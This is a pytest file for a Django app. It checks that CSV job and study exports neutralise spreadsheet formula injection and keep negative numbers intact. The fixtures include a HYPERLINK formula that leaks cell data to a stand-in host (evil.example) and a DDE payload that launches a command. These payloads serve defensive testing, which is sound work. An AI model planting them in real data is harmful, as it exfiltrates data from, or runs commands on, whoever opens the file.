"""CSV downloads are spreadsheet-safe: user-controlled text that would start a formula arrives as text.

Issue 10, item 9: a username, a job's error or a worker's host name starting with ``=``, ``+``, ``-``,
``@``, tab or CR was written as it was, and a spreadsheet opening the export ran it as a formula.
"""

from __future__ import annotations

import csv
import io

import pytest

from webapp.jobs.models import Job, Status
from webapp.jobs.services import job_transition
from webapp.studies.exports import spreadsheet_text
from webapp.teams.models import Role
from webapp.teams.services import member_set_role

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")'
DDE = "+cmd|' /C calc'!A0"


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_job_export_writes_formula_like_user_text_as_text(team_setup, make_user, make_job, api_client_for):
    alice, team = team_setup["alice"], team_setup["team_a"]
    # Django's username rules allow "@", "+" and "-" anywhere; accounts may also come from elsewhere.
    eve = make_user("-2+3")
    member_set_role(actor=alice, team=team, user=eve, role=Role.MEMBER)
    job = make_job(user=eve, team=team)
    provenance = {"host": "@SUM(A1:A9)", "cpu_model": "\t=1+1", "python": "-1.5", "physical_cores": -2}
    assert job_transition(job_id=job.pk, to=Status.RUNNING, worker_host=DDE, provenance=provenance)
    assert job_transition(job_id=job.pk, to=Status.FAILED, error=HYPERLINK, verification="\r=2*3", wall_time=1.25)

    (row,) = csv_rows(api_client_for(alice).get("/api/v1/exports/jobs.csv"))
    assert row["submitted_by"] == "'-2+3"
    assert row["error"] == "'" + HYPERLINK
    assert row["worker_host"] == "'" + DDE
    assert row["verification"] == "'\r=2*3"
    assert row["provenance.host"] == "'@SUM(A1:A9)"
    assert row["provenance.cpu_model"] == "'\t=1+1"
    # Numbers stay numbers, negative ones included, whether stored as numbers or as plain numeric text.
    assert row["provenance.physical_cores"] == "-2" and row["provenance.python"] == "-1.5"
    assert row["wall_time"] == "1.25" and row["id"] == str(job.pk) and row["params"] == '{"ns":[20,21]}'


def test_the_study_exports_keep_negative_numbers_and_neutralise_host_names(
    team_setup, make_study, finish_study, api_client_for
):
    alice = team_setup["alice"]
    study = make_study(user=alice, team=team_setup["team_a"], workers=[2])
    # Superlinear: 4× on 2 workers, so the Karp–Flatt serial fraction is negative, (1/4 − 1/2)/(1 − 1/2) = −0.5.
    finish_study(study, {("sequential", "python", 1): [2.0], ("processes", "python", 2): [0.5]})
    Job.objects.filter(study_run__study=study).update(worker_host=HYPERLINK)
    client = api_client_for(alice)

    jobs = csv_rows(client.get(f"/api/v1/studies/{study.pk}/export.csv?table=jobs"))
    assert {row["worker_host"] for row in jobs} == {"'" + HYPERLINK}
    summary = csv_rows(client.get(f"/api/v1/studies/{study.pk}/export.csv?table=summary"))
    parallel = next(row for row in summary if row["workers"] == "2")
    assert parallel["karp_flatt"] == "-0.5" and float(parallel["speedup"]) == 4.0


def test_the_exports_show_the_threads_per_rank_asked_and_the_layout_that_ran(
    team_setup, make_study, finish_study, api_client_for
):
    # Before: no export had a threads column, so hybrid runs at 2 ranks × 2 and 4 × 1 read the same.
    alice = team_setup["alice"]
    study = make_study(user=alice, team=team_setup["team_a"], workload="mandelbrot", backends=["openmp", "hybrid"],
                       params={"width": 64, "height": 48, "max_iter": 50}, implementations=["native"], workers=[4],
                       threads=2)  # fmt: skip
    finish_study(study, {("sequential", "native", 1): [2.0], ("openmp", "native", 4): [0.6],
                         ("hybrid", "native", 4): [0.5]})  # fmt: skip
    hybrid = Job.objects.get(backend="hybrid")
    layout = {"ranks": 2, "threads": 2, "chosen": "asked", "cores": 4, "host": "bench-1"}
    Job.objects.filter(pk=hybrid.pk).update(provenance={**hybrid.provenance, "layout": layout})
    client = api_client_for(alice)

    columns = ("threads", "provenance.layout.ranks", "provenance.layout.threads")
    for rows in (csv_rows(client.get("/api/v1/exports/jobs.csv")),
                 csv_rows(client.get(f"/api/v1/studies/{study.pk}/export.csv?table=jobs"))):  # fmt: skip
        by_backend = {row["backend"]: tuple(row[c] for c in columns) for row in rows}
        assert by_backend == {"hybrid": ("2", "2", "2"), "openmp": ("", "", ""), "sequential": ("", "", "")}
    records = {r["backend"]: r for r in client.get("/api/v1/exports/jobs.json").json()}
    assert records["hybrid"]["threads"] == 2 and records["hybrid"]["provenance"]["layout"] == layout
    assert records["openmp"]["threads"] is None
    runs = {r["backend"]: r for r in client.get(f"/api/v1/studies/{study.pk}/export.json").json()["runs"]}
    assert (runs["hybrid"]["threads"], runs["hybrid"]["layout"]) == (2, {"ranks": 2, "threads": 2})
    assert (runs["openmp"]["threads"], runs["openmp"]["layout"]) == (None, None)


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-1.5", "-1.5"),
        ("+2e-3", "+2e-3"),
        ("fib", "fib"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_text(value, written):
    assert spreadsheet_text(value) == written
